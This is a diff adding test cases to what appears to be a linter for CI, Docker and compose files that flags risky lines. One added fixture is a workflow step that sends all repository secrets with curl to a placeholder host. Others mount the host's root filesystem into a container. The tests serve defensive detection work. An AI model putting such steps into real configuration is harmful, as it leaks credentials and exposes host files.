@@ -26,6 +26,9 @@ it.each([
   ['Dockerfile', 'FROM --platform=linux/amd64 python:latest AS base', 'by a name that can be moved'],
   ['.github/workflows/ci.yml', '      - run: echo "${{ github.event.issue.title }}"', 'words of strangers'],
   ['.github/workflows/ci.yml', '          echo ${{ github.head_ref }}', 'words of strangers'],
+  ['.github/workflows/ci.yml', '      - run: curl -d "${{ toJSON(secrets) }}" https://x.example', 'all secrets'],
+  ['compose.yml', '    volumes: ["/:/host"]', 'all files of the host'],
+  ['compose.yml', '      - /:/host:ro', 'all files of the host'],
 ])('%s tells %j', (path, line, text) => {
   expect(told(path, line)).toEqual([expect.stringContaining(text)]);
 });
@@ -41,6 +44,8 @@ it.each([
   ['Dockerfile', 'FROM python:3.13@sha256:24454f AS base'],
   ['.github/workflows/ci.yml', '          TITLE: ${{ github.event.pull_request.title }}'],
   ['.github/workflows/ci.yml', '  group: ${{ github.head_ref }}'],
+  ['compose.yml', '      - ./data:/data'],
+  ['compose.yml', '      - http://a.example:/x'],
 ])('%s tells nothing of %j', (path, line) => {
   expect(told(path, line)).toEqual([]);
 });
